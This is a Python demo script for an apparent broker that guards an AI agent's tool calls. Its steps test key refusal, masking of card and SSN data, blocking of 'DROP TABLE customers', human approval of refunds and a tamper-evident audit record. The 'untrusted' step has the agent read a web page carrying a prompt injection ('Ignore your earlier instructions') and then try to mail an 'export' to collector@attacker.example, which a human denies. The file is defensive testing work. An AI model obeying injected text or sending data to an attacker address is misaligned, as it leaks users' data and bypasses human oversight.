"""The demo's story: one function per step, and each of them proves what it says or the demo fails.

What a step claims is checked where it would show: in the service's own files, in the bytes that the agent received, in
the answers of the broker's own commands. No step takes a text for proof.
"""

from __future__ import annotations

import json
import re
import shutil
import sqlite3
import sys
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path

from .proof import (
    Json,
    agent_of,
    alone,
    customer,
    environment_of,
    ledger,
    objects,
    outbox,
    prove,
    question_of,
    result_of,
    rows,
    spellings,
    succeed,
    text_of,
)
from .stage import Stage, plain_environment

NOT_INSTALLED = 7
"""Exit code of the LangChain step's script where its packages are missing."""

SENT = (
    *("crm.search", "crm.get_customer", "payments.refund", "mail.send"),
    *("web.fetch", "crm.debug_info"),
)
"""What the agent's calls come to: these reach a skill, in this order."""
_SCENES = frozenset({"intended", "refused", "asked", "granted", "question_denied"})


@dataclass(frozen=True, slots=True)
class Shown:
    """What a step showed: lines for people, facts for programs."""

    lines: tuple[str, ...]
    facts: dict[str, Json] = field(default_factory=dict)
    skipped: bool = False


@dataclass(frozen=True, slots=True)
class Step:
    name: str
    title: str
    play: Callable[[Stage], Shown]


def direct(stage: Stage) -> Shown:
    refund = {"customer": "C-1001", "amount": 10, "reason": "no key"}
    for key in (None, "a-wrong-key"):
        answer = alone(stage, "payments", "refund", refund, key)
        prove("error" in answer and "result" not in answer, "the service refuses a call without its key")
    prove(ledger(stage) == [], "no money moved")
    return Shown(
        (
            f"refund, sent straight to the service: error {answer['error']['code']}",
            f"“{answer['error']['message']}”",
            "The same with a wrong key. The ledger is empty.",
        ),
        {"code": answer["error"]["code"], "ledger": 0},
    )


def allowed(stage: Stage) -> Shown:
    agent = agent_of(stage)
    prove(len(agent.tools) >= 7, "the agent sees the skills of all five upstreams")
    result = result_of(agent.call("crm.search", {"query": "Mara"}))
    prove(not result.get("isError"), "the call is allowed")
    prove("C-1001" in json.dumps(result), "and answered by the service")
    return Shown(
        (f"The agent sees {len(agent.tools)} tools: {', '.join(agent.tools)}", f"crm.search → {text_of(result)}"),
        {"tools": agent.tools, "answer": text_of(result)},
    )


def masked(stage: Stage) -> Shown:
    agent = agent_of(stage)
    real = customer(stage, "C-1001")
    result = result_of(agent.call("crm.get_customer", {"id": "C-1001"}))
    structured = result.get("structuredContent", {})
    prove(not result.get("isError"), "the call is allowed")
    for name, placeholder in (("card", "[REDACTED:credit_card]"), ("ssn", "[REDACTED:us_ssn]")):
        prove(structured.get(name) == placeholder, f"{name} is masked in the structured result")
        prove(placeholder in text_of(result), f"{name} is masked in the text")
        digits = re.sub(r"\D", "", real[name]).encode()
        prove(
            digits not in re.sub(rb"[ \-.]", b"", agent.received()), f"the digits of {name} reached the agent nowhere"
        )
    prove(real["name"] in text_of(result), "what need not be masked is left alone")
    kept = [line for line in text_of(result).splitlines() if line.startswith(("name:", "card:", "ssn:"))]
    return Shown(
        (
            "crm.get_customer C-1001, as the agent got it:",
            *(f"  {line}" for line in kept),
            "The real digits are in no byte that the agent received.",
        ),
        {"card": structured["card"], "ssn": structured["ssn"]},
    )


def blocked(stage: Stage) -> Shown:
    before = rows(stage, "customers")
    result = result_of(agent_of(stage).call("db.query", {"sql": "DROP TABLE customers"}))
    prove(result.get("isError") is True, "the call is refused")
    prove(len(result["content"]) == 1 and "structuredContent" not in result, "the refusal is one text block")
    decision = result.get("_meta", {}).get("interposer/decision", {})
    prove(decision.get("rule") == "no-schema-changes", "by the rule that says so")
    prove(before == rows(stage, "customers") == 5, "the table is untouched")
    return Shown(
        ("db.query “DROP TABLE customers” →", f"“{text_of(result)}”", f"The table still has its {before} rows."),
        {"rule": decision["rule"], "message": text_of(result), "rows": before},
    )


def approved(stage: Stage) -> Shown:
    agent, before = agent_of(stage), ledger(stage)
    arguments = {"customer": "C-1001", "amount": 75, "reason": "the lid is loose"}
    agent.begin("payments.refund", arguments)
    question = question_of(stage)
    prove(ledger(stage) == before, "nothing is paid while the question is open")
    shown = succeed(stage, "approvals", "show", question)
    for value in ("75", "C-1001", "the lid is loose"):
        prove(value in shown, "the operator sees the exact call")
    digest = next(line.split()[1] for line in shown.splitlines() if line.startswith("digest"))
    succeed(stage, "approvals", "approve", question, "--digest", digest)
    result = result_of(agent.finish())
    prove(not result.get("isError"), "the approved call is made")
    new = ledger(stage)[len(before) :]
    prove(len(new) == 1, "the ledger has exactly one new line")
    prove({name: new[0][name] for name in arguments} == arguments, "and it is the refund that was approved")
    return Shown(
        (
            "payments.refund of 75 dollars: the broker holds it and asks.",
            f"$ interposer approvals approve {question} --digest {digest[:12]}…",
            f"→ {text_of(result)}",
            "The ledger has exactly one new line.",
        ),
        {"question": question, "new_lines": 1},
    )


def denied(stage: Stage) -> Shown:
    agent, before = agent_of(stage), ledger(stage)
    agent.begin("payments.refund", {"customer": "C-1002", "amount": 9000, "reason": "the caller was very friendly"})
    question = question_of(stage)
    succeed(stage, "approvals", "deny", question, "--reason", "no such order")
    result = result_of(agent.finish())
    prove(result.get("isError") is True, "the call is refused")
    prove(ledger(stage) == before, "the ledger is unchanged")
    return Shown(
        (
            "payments.refund of 9000 dollars: asked.",
            f"$ interposer approvals deny {question} --reason 'no such order'",
            f"→ “{text_of(result)}”",
            "The ledger is unchanged.",
        ),
        {"question": question, "new_lines": 0, "message": text_of(result)},
    )


def untrusted(stage: Stage) -> Shown:
    agent = agent_of(stage)
    mail = {"to": "mara@customer.example", "subject": "Your return", "body": "It is on its way."}
    prove(not result_of(agent.call("mail.send", mail)).get("isError"), "mail goes out before untrusted text came in")
    before = outbox(stage)
    prove(len(before) == 1, "one message is in the outbox")
    page = text_of(result_of(agent.call("web.fetch", {"url": "https://blog.example/review"})))
    prove("Ignore your earlier instructions" in page, "the page tries to give the model orders")
    agent.begin("mail.send", {"to": "collector@attacker.example", "subject": "export", "body": "as agreed"})
    question = question_of(stage)
    prove(outbox(stage) == before, "nothing is sent while the question is open")
    succeed(stage, "approvals", "deny", question, "--reason", "the agent has read a stranger's text")
    prove(result_of(agent.finish()).get("isError") is True, "the mail is refused")
    prove(outbox(stage) == before, "nothing was sent")
    return Shown(
        (
            "mail.send → sent. web.fetch reads a page with a prompt injection.",
            "mail.send to collector@attacker.example → now a human is asked.",
            "Denied. The outbox holds the first message only.",
        ),
        {"question": question, "outbox": len(before)},
    )


def langchain(stage: Stage) -> Shown:
    before = ledger(stage)
    script, environment = str(stage.service / "with_langchain.py"), plain_environment()
    adapter = Path(__file__).resolve().parents[2] / "adapters" / "langchain"
    if adapter.is_dir():
        environment["PYTHONPATH"] = f"{environment.get('PYTHONPATH', '')}:{adapter}".lstrip(":")
    done = stage.run([sys.executable, script, str(stage.socket)], env=environment)
    if done.returncode == NOT_INSTALLED:
        return Shown(
            (
                "Not played: langchain-core or the adapter is missing here.",
                "To see it: pip install langchain-interposer, then this again.",
            ),
            {"skipped": "langchain_interposer is not installed"},
            skipped=True,
        )
    prove(done.returncode == 0, f"the LangChain agent runs: {done.stderr.decode(errors='replace')[-800:]}")
    told: dict[str, Json] = json.loads(done.stdout)
    real = customer(stage, "C-1002")
    answered, refused = told["customer"], told["blocked"]
    prove(answered["status"] == "success" and "[REDACTED:credit_card]" in answered["text"], "a tool answers, masked")
    prove(real["card"].encode() not in done.stdout, "the card number is not in what LangChain got")
    prove(refused["status"] == "error" and "no-schema-changes" in refused["text"], "a refusal is a tool message")
    prove(stage.key().encode() not in done.stdout + done.stderr, "the key is not in what LangChain got")
    prove(ledger(stage) == before and rows(stage, "customers") == 5, "nothing else happened")
    return Shown(
        (
            f"{len(told['tools'])} StructuredTools; get_customer is masked as before.",
            f"DROP TABLE → tool message “{refused['text'][:100]}…”",
        ),
        {"tools": told["tools"]},
    )


def keyless(stage: Stage) -> Shown:
    agent, key = agent_of(stage), stage.key()
    bare = json.dumps(alone(stage, "crm", "debug_info", {}, key))
    prove(key in bare, "the service itself does give its key away when asked")
    through = text_of(result_of(agent.call("crm.debug_info", {})))
    prove(through.count("[REDACTED:credential]") >= 2, "the broker masks it, plain and in Base64")
    looks = list(spellings(key))
    places = {"received by the agent": agent.received(), "environment of the agent": environment_of(agent)}
    record = {str(path.relative_to(stage.home)): path.read_bytes() for path in stage.home.rglob("*") if path.is_file()}
    prove(any(content.startswith(b"SQLite format 3") for content in record.values()), "the record was searched")
    for place, content in {**places, **record}.items():
        for look in looks:
            prove(look not in content, f"the key is not in: {place}")
    for place, content in record.items():
        prove(customer(stage, "C-1001")["card"].encode() not in content, f"no card number is in: {place}")
    prove(any(look in bare.encode() for look in looks), "the search finds a key where there is one")
    size = len(places["received by the agent"])
    return Shown(
        (
            "crm.debug_info of this service prints its own key. Through the broker:",
            *(f"  {line}" for line in through.splitlines()),
            f"Searched for {len(looks)} spellings of the key: none in the {size:,} bytes that",
            f"the agent received, nor in the broker's {len(record)} files, the record among them.",
        ),
        {"spellings": len(looks), "bytes_received": size, "files": sorted(record)},
    )


def replayed(stage: Stage) -> Shown:
    stage.close_agent()
    sessions = objects(succeed(stage, "sessions", "list", "--json"))
    mine = next(one["id"] for one in sessions if one["client"] == "demo-agent")
    told = objects(succeed(stage, "sessions", "replay", mine, "--json"))
    sent = [step["skill"] for step in told if step["kind"] == "intended"]
    prove(sent == list(SENT), f"the record has every call that was made, in order, and no other: {sent}")
    refusals = [step["skill"] for step in told if step["kind"] == "refused"]
    prove(refusals == ["db.query", "payments.refund", "mail.send"], f"and every refusal: {refusals}")
    saw = json.dumps([step.get("saw") for step in told])
    prove("[REDACTED:credit_card]" in saw and "[REDACTED:credential]" in saw, "it shows what the agent saw, masked")
    lines = [f"{step['seq']:>3}  {step['text']}" for step in told if step["kind"] in _SCENES]
    return Shown((f"$ interposer sessions replay {mine}", *lines), {"session": mine, "sent": sent, "rows": len(told)})


def verified(stage: Stage) -> Shown:
    stage.close_broker()
    [whole] = objects(succeed(stage, "record", "verify", "--json"))
    prove(whole["ok"] is True and whole["rows"] > len(SENT), "every row of the record was verified")
    forged = stage.root / "forged"
    shutil.copytree(stage.home, forged, ignore=lambda _, names: [name for name in names if name.endswith(".sock")])
    with closing(sqlite3.connect(forged / "record.db")) as copy, copy:
        [row] = copy.execute("select min(seq) from events where kind = 'refused'").fetchone()
        copy.execute("update events set effect = 'allow' where seq = ?", (row,))
    forgery = stage.interposer("record", "verify", "--json", home=forged)
    [found] = objects(forgery.stdout.decode())
    prove(forgery.returncode == 1 and found["break"]["row"] == row, f"a changed word is found in row {row}: {found}")
    return Shown(
        (
            f"$ interposer record verify: {whole['rows']} rows, all as they were written.",
            "In a copy, one refusal was turned into “allow”. There:",
            f"→ exit code 1, {found['break']['text']}",
        ),
        {"rows": whole["rows"], "head": whole["head"], "tampered_exit": 1, "tampered_row": row},
    )


STEPS = (
    Step("direct", "The service refuses whoever has no key", direct),
    Step("allowed", "Through the broker: an allowed call", allowed),
    Step("masked", "An answer with card and social security number is masked", masked),
    Step("blocked", "A forbidden call is blocked", blocked),
    Step("approved", "A human is asked, and approves", approved),
    Step("denied", "A human is asked, and denies", denied),
    Step("untrusted", "After a stranger's text, mail asks", untrusted),
    Step("langchain", "A LangChain agent, the same wall", langchain),
    Step("keyless", "The key is nowhere in what the agent got", keyless),
    Step("replayed", "The session is replayed from the record", replayed),
    Step("verified", "The record's chain is verified", verified),
)
